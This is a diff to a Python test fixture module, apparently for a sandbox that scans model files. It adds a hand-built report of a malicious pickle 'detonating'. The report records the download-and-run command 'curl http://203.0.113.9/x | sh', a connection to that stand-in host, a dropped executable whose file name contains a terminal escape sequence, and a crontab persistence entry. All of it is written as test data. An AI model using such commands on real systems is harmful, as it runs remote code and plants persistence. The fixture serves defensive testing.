@@ -1,4 +1,4 @@
-"""Two reports built by hand: an ordinary checkpoint, and one that reaches for a shell."""
+"""Reports built by hand: an ordinary checkpoint, one that reaches for a shell, and one whose shell ran."""
 
 from __future__ import annotations
 
@@ -6,8 +6,10 @@ from dataclasses import replace
 
 from sandbox.facts import (
     Absent,
+    Artifact,
     Comparison,
     Completeness,
+    Conversation,
     DynamicFacts,
     Event,
     Finding,
@@ -18,15 +20,20 @@ from sandbox.facts import (
     JailFacts,
     LeftOut,
     Limit,
+    Node,
     Oddity,
     Output,
+    Process,
     ProcessEnd,
     Report,
     Resources,
     StaticFacts,
+    Story,
+    Talk,
     TensorCount,
     Verdict,
     Witness,
+    Word,
 )
 
 END = ProcessEnd(exit=0, seconds=0.21, cpu_seconds=0.19, peak_rss=14_000_000, alive=())
@@ -155,4 +162,66 @@ MALICIOUS = replace(
     tensors={"copied": TensorCount(1, 16)},
     outputs=(),
     not_written="weights of malicious files are only written with --salvage",
+)
+
+_SHELL = "sh -c 'curl http://203.0.113.9/x | sh'"
+_NODES = (
+    Node(1, None, "call", 2.0, 7, "unpickling calls posix.system (data.pkl, offset 0x1f)", hint=True),
+    Node(2, 1, "process.start", 2.01, 12, "forks", event=1),
+    Node(3, 2, "process.exec", 2.01, 12, _SHELL, phase="load", event=2),
+    Node(4, 3, "process.image", 2.02, 12, _SHELL, phase="load", event=3),
+    Node(5, 4, "process.start", 2.03, 13, "sh forks", event=4),
+    Node(6, 5, "process.exec", 2.03, 13, "curl http://203.0.113.9/x", event=5),
+    Node(7, 4, "process.start", 2.03, 14, "sh forks", event=6),
+    Node(8, 7, "process.exec", 2.03, 14, "sh", event=7),
+    Node(9, 6, "net.connect", 2.06, 13, "curl connects 203.0.113.9:80", event=8),
+    Node(10, 6, "process.exit", 2.1, 13, "curl ends with 0", event=9),
+    Node(11, 8, "process.exit", 2.1, 14, "sh ends with 0", event=10),
+    Node(12, 9, "talk", 2.07, 13, "GET /x", conversation=1),
+    Node(13, 12, "answer", 2.07, 13, "got 200, 0 bytes", conversation=1),
+    Node(14, None, "file.write", 3.0, 7, "the load writes /tmp/a\x1b[2J", event=11, count=3),
+)
+
+DETONATED = replace(
+    MALICIOUS,
+    policy="detonate",
+    dynamic=replace(
+        MALICIOUS.dynamic,
+        conversations=(
+            Conversation(
+                id=1,
+                pid=13,
+                at=2.07,
+                transport="tcp",
+                address="203.0.113.9",
+                port=80,
+                name="",
+                protocol="http",
+                sent=b"GET /x HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n",
+                sent_total=40,
+                answered=b"HTTP/1.1 200 OK\r\n\r\n\xff",
+                answered_total=20,
+            ),
+        ),
+        artifacts=(Artifact("/tmp/a\x1b[2J", "left", 0o755, 70_000, "78" * 32, b"\x7fELF\0" * 2000),),
+    ),
+    story=Story(_NODES, more=2),
+    processes=(
+        Process(7, 0, "", "", 2.0, None, None, (), ("/tmp/a\x1b[2J",)),
+        Process(12, 7, "/usr/bin/dash", _SHELL, 2.01, 2.12, 0),
+        Process(13, 12, "/usr/bin/curl", "curl http://203.0.113.9/x", 2.03, 2.1, 0, ("203.0.113.9:80",)),
+        Process(14, 12, "/usr/bin/dash", "sh", 2.03, 2.1, None),
+    ),
+    talks=(
+        Talk(
+            "http",
+            "GET /x",
+            "got 200, 0 bytes",
+            "GET /x HTTP/1.1; host: 203.0.113.9",
+            name="203.0.113.9",
+            requests=("GET /x HTTP/1.1",),
+            headers=(("host", "203.0.113.9"),),
+            word=Word("crontab", ("crontab", "-"), (("PATH", "/usr/bin"),), b"* * * * * sh"),
+        ),
+    ),
 )
